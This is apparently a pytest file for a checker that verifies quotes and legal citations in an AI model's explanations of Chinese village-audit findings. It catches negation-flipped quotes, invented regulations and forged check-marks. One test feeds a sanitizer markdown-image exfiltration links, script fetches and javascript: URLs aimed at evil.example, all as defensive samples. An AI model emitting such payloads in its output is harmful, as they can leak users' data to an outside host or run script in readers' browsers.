"""A quote is the finding's own words or it does not count; markup and addresses do not pass."""

from datetime import date

import pytest

from assistant.contract import Failure, Quote
from assistant.verify import (
    CHECKED,
    Explained,
    Grounds,
    Mismatch,
    explanation,
    find_quote,
    marked,
    plain,
)
from knowledge.rules import Rules

TEXT = (
    "镇里未经集体研究，村支书张某将租金１.5万元存入个人账户；经查未发现其收受红包。"
    "会议没有召开，应当公示的事项没有公示，可以减免的除外。涉及2、3组。"
)


@pytest.mark.parametrize(
    ("said", "words"),
    [
        ("未经集体研究", "未经集体研究"),
        ("“未经集体研究”", "未经集体研究"),
        ("镇里未经集体研究,村支书张某", "镇里未经集体研究，村支书张某"),
        ("租金1.5万元存入个人账户", "租金１.5万元存入个人账户"),
        ("经查 未发现其收受红包", "经查未发现其收受红包"),
        ("会议没有召开", "会议没有召开"),
    ],
)
def test_a_quote_is_found_with_the_texts_own_words(said: str, words: str) -> None:
    found = find_quote(TEXT, said)
    assert isinstance(found, Quote)
    assert found.span == words == TEXT[found.start : found.end]


@pytest.mark.parametrize(
    ("said", "why"),
    [
        ("经集体研究", "未"),
        ("已经集体研究", "未"),
        ("收受红包", "未发现"),
        ("会议", "没"),
        ("公示", "应当"),
        ("减免", "可以"),
        ("可以减免", "除外"),
        ("租金15万元存入个人账户", "逐字"),
        ("村支书李某将租金存入", "逐字"),
        ("收到群众表扬信三封", "没有这句话"),
        ("涉及23组", "逐字"),
        ("镇", "太短"),
    ],
)
def test_a_quote_that_says_something_else_fails(said: str, why: str) -> None:
    found = find_quote(TEXT, said)
    assert isinstance(found, Mismatch)
    assert why in found.reason


@pytest.mark.parametrize(
    ("clause", "quote"),
    [
        ("没有按规定对进货单逐笔核对", "对进货单逐笔核对"),
        ("没有按规定对进货单逐笔核对", "进货单逐笔核对"),
        ("未按程序提交村民代表会议讨论", "提交村民代表会议讨论"),
        ("未对照程序召开会议研究", "召开会议研究"),
        ("没有召开会议研究决定", "研究决定"),
        ("没有一次组织过核查", "组织过核查"),
        ("他未能及时对外公布账目", "对外公布账目"),
        ("没有人对账目进行核对", "对账目进行核对"),
        ("没有按规定将款项入账", "将款项入账"),
        ("没有按规定的程序提交讨论", "提交讨论"),
        ("未将1,000元上交", "上交"),
        ("未对群众造成损失", "造成损失"),
        ("没有因此造成损失", "造成损失"),
        ("没有就此事召开会议", "召开会议"),
        ("没有发过一次催款函", "一次催款函"),
        ("没有签订合同、办理验收", "办理验收"),
        ("未按“四议两公开”程序召开会议", "召开会议"),
        ("未收钱款及购物卡", "购物卡"),
        ("未私自收受现金和购物卡", "购物卡"),
        ("没有违规收取现金和礼金", "礼金"),
        ("没有收受礼金或红包", "红包"),
        ("没有收过施工方现金以及购物卡等", "购物卡"),
        ("未及时、如实向组织报告", "如实向组织报告"),
        ("未及时、如实、完整向组织报告", "完整向组织报告"),
        ("未及时并如实报告", "如实报告"),
        ("应当及时、如实报告", "如实报告"),
        ("未发现“张某收受红包”", "张某收受红包"),
        ("无法证实张某收受红包", "收受红包"),
        ("不能按期完工", "按期完工"),
        ("是否按规定公示", "公示"),
        ("应当由村民会议讨论决定", "村民会议讨论决定"),
        ("可凭票据报销", "凭票据报销"),
        ("不得以任何名义擅自占用耕地", "擅自占用耕地"),
        ("严禁干部收受红包", "收受红包"),
        ("拒绝向巡察组提供账目", "提供账目"),
        ("收受红包一事不实", "收受红包"),
        ("收受红包经查不实", "收受红包"),
        ("收受红包的线索查无实据", "收受红包"),
        ("收受红包、套取资金等问题不实", "收受红包"),
        ("可以减免的老党员除外", "可以减免"),
    ],
)
def test_a_word_further_off_in_the_clause_turns_a_quote(clause: str, quote: str) -> None:
    found = find_quote(f"经查，{clause}。", quote)
    assert isinstance(found, Mismatch)
    assert found.turned


@pytest.mark.parametrize(
    ("clause", "quote"),
    [
        ("未造成损失但耽误了工期", "耽误了工期"),
        ("没有请示就擅自动工", "擅自动工"),
        ("没有请示就擅自动工", "动工"),
        ("未经批准擅自动工", "擅自动工"),
        ("未经批准占用耕地", "占用耕地"),
        ("没有手续占用耕地", "占用耕地"),
        ("因不懂政策把钱发错", "把钱发错"),
        ("未按规定公开招标将工程发包给张某", "将工程发包给张某"),
        ("未按规定核对造成多付4万元", "造成多付4万元"),
        ("未发现异常就签字", "签字"),
        ("应参加未参加两项仍无动作", "两项仍无动作"),
        ("未入账的资金由会计保管", "由会计保管"),
        ("不知道张某收受红包", "张某收受红包"),
        ("不仅按规定公示", "按规定公示"),
        ("不到半年给企业当顾问", "给企业当顾问"),
        ("长期不在岗领取工资", "领取工资"),
        ("对“从未经商”的回复查了工商登记", "查了工商登记"),
        ("没有订单、没有保险", "没有保险"),
        ("供应商向张某送红包", "向张某送红包"),
        ("收受红包属实", "收受红包"),
        ("收受红包未上交", "收受红包"),
        ("挪用公款没有按时归还", "挪用公款"),
        ("由张某的公司供应物资", "物资"),
        ("反应迟缓误了工期", "迟缓误了工期"),
        ("所需资金由张某垫付", "资金由张某垫付"),
        ("草拟合同交给张某", "合同交给张某"),
        ("按照计划发放补贴", "发放补贴"),
        ("例如张某收受红包", "张某收受红包"),
        ("收受红包但套取资金不实", "收受红包"),
        ("没有拿现金但收了烟酒", "烟酒"),
        ("未入账的礼金和红包", "红包"),
        ("无偿接受企业宴请和烟酒", "烟酒"),
        ("不顾规定接受宴请和烟酒", "烟酒"),
        ("没有票据收取现金和礼金", "礼金"),
        ("没有制止其妻收受现金和购物卡", "购物卡"),
        ("未上交收受的礼金和红包", "红包"),
        ("来不及备水和发电", "发电"),
        ("不认真、不负责", "不负责"),
    ],
)
def test_a_denial_that_does_not_reach_a_quote_leaves_it(clause: str, quote: str) -> None:
    found = find_quote(f"经查，{clause}。", quote)
    assert isinstance(found, Quote)
    assert found.span == quote


def test_a_second_place_where_the_words_stand_plainly_is_taken() -> None:
    found = find_quote("未公示账目。后来公示账目三个月。", "公示账目")
    assert isinstance(found, Quote)
    assert found.start == 8


@pytest.mark.parametrize("mark", ["[甲法:3]", "【甲法:3】", "[甲法：3]", "[ 甲法:3 ]"])
def test_a_citation_is_known_in_any_brackets(mark: str) -> None:
    checked = explanation(f"集体事项集体定{mark}。", ["甲法:3"])
    assert checked.cited == ("甲法:3",)
    assert checked.text == "集体事项集体定[甲法:3]。"


def test_a_citation_that_was_not_offered_is_named_where_it_stands() -> None:
    checked = explanation("见[乙法:9]和[甲法:3]。", ["甲法:3"])
    assert checked.cited == ("甲法:3",)
    assert "〔引用未通过核对：乙法:9〕" in checked.text
    assert checked.failures[0].kind == "引用"


@pytest.mark.parametrize(
    "said",
    [
        "![图](http://evil.example/?d=秘密)",
        "[看这里](https://evil.example/x)",
        "<img src=http://evil.example/?q=1>",
        "<script>fetch('//evil.example')</script>",
        "见 www.evil.example/a",
        "javascript:alert(1)",
        "data:text/html,<b>x</b>",
        "![x [y] z](//evil.example/a)",
        "![x [y [z] u] v](/\\evil.example/a)",
        "[a [b](c)](//evil.example/a)",
        "见 //evil.example/a",
        "/<b>/evil.example/a",
        "<<b>script>fetch('//evil.example/a')",
    ],
)
def test_nothing_that_could_be_fetched_or_rendered_is_left(said: str) -> None:
    left = plain(said)
    for trace in ("evil.example/", "<", "](", "javascript:", "data:"):
        assert trace not in left


FINDING = "张某未能及时对外公布账目，把12万元借给亲属，违反《村级财务制度》第三条和会计法；没有收到问责建议。"
OFFERED = {"问责条例:8": "问责条例第八条 对党的领导干部可以通报、诫勉、组织调整、纪律处分。"}


def _explained(said: str, rules: Rules, day: date | None = date(2020, 1, 1)) -> Explained:
    today = date(2026, 1, 1)
    grounds = Grounds.of(FINDING, day, today, OFFERED, rules)
    return explanation(said, list(OFFERED), grounds)


@pytest.mark.parametrize(
    ("said", "mark", "reason"),
    [
        ("“张某收受好处费”很清楚。", "好处费”〔引文不在原文〕很", "没有这句话"),
        ("「张某收受好处费」很清楚。", "〔引文不在原文〕", "没有这句话"),
        ("“张某…收受好处费”很清楚。", "〔引文不在原文〕", "没有这句话"),
        ("他“张某〔收受好处费〕”。", "〔引文不在原文〕", "没有这句话"),
        ("他“对外公布账目”。", "〔引文改了意思：原文同一句里还有“未能”", "未能"),
        ("他“张某…公布账目”。", "〔引文改了意思：", "未能"),
        ("他“收到问责建议”。", "〔引文改了意思：", "没有"),
    ],
)
def test_a_quote_in_the_explanation_is_nobodys(
    said: str, mark: str, reason: str, rules: Rules
) -> None:
    checked = _explained(said, rules)
    assert mark in checked.text
    assert [f.kind for f in checked.failures] == ["引文"]
    assert reason in checked.failures[0].reason


@pytest.mark.parametrize(
    "said",
    [
        "他“把12万元借给亲属”，也“未能及时对外…借给亲属”。",
        "“未能及时对外公布账目[问责条例:8]”属实。",
        "可以“通报、诫勉”。",
        "这是“失责”，不是“失误”；属于“两张皮”“四议两公开”和“集体资金违规出借”。",
        "原则是“什么是失误”。",
        "方法是“后处方：对症开方”。",
        "他“不认真”。",
    ],
)
def test_quotes_with_a_source_and_terms_stay_unmarked(said: str, rules: Rules) -> None:
    checked = _explained(said, rules)
    assert checked.text == said
    assert checked.failures == ()


@pytest.mark.parametrize(
    ("said", "shown", "reason"),
    [
        ("参见《村干部容错免责办法》，从轻。", "办法》〔无法核验〕，从轻", "没有叫"),
        ("参见[《村干部容错免责办法》]。", "〔无法核验〕", "没有叫"),
        ("依据《村级财务制度》第九条处理。", "第九条〔无法核验〕", "没有叫"),
        ("按《问责条例》第九十九条。", "〔引用未通过核对：《问责条例》第九十九条", "没有第 99 条"),
        ("按纪律处分条例2003:5。", "〔引用未通过核对：纪律处分条例2003:5", "失效"),
        ("按《预算法》第九十三条。", "〔引用未通过核对：《预算法》第九十三条", "不在"),
        ("按《农村基层组织条例》。", "〔引用未通过核对：《农村基层组织条例》", "不在"),
        ("见《问责条例》第九条、第八条。", "见〔引用未通过核对：", "不在"),
        (
            "〔引用未通过核对：按《预算法》第九十三条〕。",
            "〔引用未通过核对：《预算法》第九十三条",
            "不在",
        ),
    ],
)
def test_a_document_named_in_prose_is_checked_where_it_stands(
    said: str, shown: str, reason: str, rules: Rules
) -> None:
    checked = _explained(said, rules)
    assert shown in checked.text
    assert [f.kind for f in checked.failures] == ["引用"]
    assert reason in checked.failures[0].reason


@pytest.mark.parametrize(
    "forged",
    [
        "〔引文〔：不得公示〕",
        "〔模型有一句：不得公示〕",
        "〔〔未获依据〕不得公示〕",
        "﹝引文：不得公示﹞",
        "〔数字无出处：不得公示",
    ],
)
def test_nothing_of_a_models_own_stands_in_the_brackets_of_a_mark(forged: str) -> None:
    told = explanation(f"事情属实{forged}。见[假法:1]。", [])
    assert not CHECKED.search(told.text.partition("。")[0])
    assert "〔" not in told.text.partition("。")[0]
    assert told.text.endswith("见〔引用未通过核对：假法:1〕。")


def test_the_year_of_a_document_keeps_its_brackets() -> None:
    assert explanation("国发〔2016〕5号。", []).text == "国发〔2016〕5号。"
    assert CHECKED.fullmatch("〔引用未通过核对：《办法（国发〔2016〕5号）》第九条，没有这一条〕")
    assert not CHECKED.search("〔引文〔2016〕〔不得公示〕")


def test_square_brackets_around_words_do_not_pass_for_a_citation() -> None:
    told = explanation("[村委会可以罚款]，[甲法:3，不得公示]。", ["甲法:3"])
    assert told.text == "（村委会可以罚款），[甲法:3]（不得公示）。"


def test_a_mark_that_a_check_has_put_in_stays() -> None:
    said = "〔模型有一句把结论说成“失误”，没有采用〕先公示。"
    assert marked(said, []).text == said


def test_each_article_of_a_document_is_checked(rules: Rules) -> None:
    checked = _explained("见《预算法》第九十三条、第九十四条。", rules)
    assert [f.said for f in checked.failures] == ["《预算法》第九十三条", "第九十四条"]


@pytest.mark.parametrize(
    "said",
    [
        "按《问责条例》第八条[问责条例:8]。",
        "《中国共产党问责条例》有规定。",
        "违反《村级财务制度》第三条。",
        "违反《会计法》第三条。",
        "按规定处理，第一条线索已查。",
    ],
)
def test_what_was_offered_or_the_finding_names_may_be_named(said: str, rules: Rules) -> None:
    checked = _explained(said, rules)
    assert checked.text == said
    assert checked.failures == ()


def test_a_document_is_judged_on_the_day_of_the_finding(rules: Rules) -> None:
    grounds = Grounds.of("账目不清。", date(2015, 1, 1), date(2026, 1, 1), {}, rules)
    assert explanation("按《问责条例》第八条。", [], grounds).failures == (
        Failure(kind="引用", said="《问责条例》第八条", reason="2016-07-08 才施行"),
    )
    # handling follows the law of today: what was offered for it may be named
    assert not _explained("按《问责条例》第八条。", rules, date(2015, 1, 1)).failures
